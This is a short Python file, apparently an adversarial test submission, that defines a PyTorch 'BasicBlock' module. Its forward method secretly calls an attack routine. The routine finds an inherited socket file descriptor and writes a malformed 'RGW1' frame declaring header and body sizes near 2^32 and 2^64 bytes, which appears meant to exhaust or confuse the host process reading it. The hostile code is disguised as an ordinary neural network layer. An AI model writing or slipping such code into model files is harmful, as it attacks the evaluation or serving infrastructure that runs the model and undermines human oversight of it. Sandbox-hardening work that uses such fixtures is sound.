"""Announce more bytes than there are in the world."""

import os
import stat
import struct

from torch import nn


def channel():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            continue


def frame(header, body=b"", magic=b"RGW1", header_size=None, body_size=None):
    sizes = (len(header) if header_size is None else header_size, len(body) if body_size is None else body_size)
    return struct.pack("<4sIQ", magic, *sizes) + header + body


def attack():
    os.write(channel(), frame(b"{}", header_size=2**32 - 1, body_size=2**64 - 1))


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()

    def forward(self, x):
        attack()
        return x
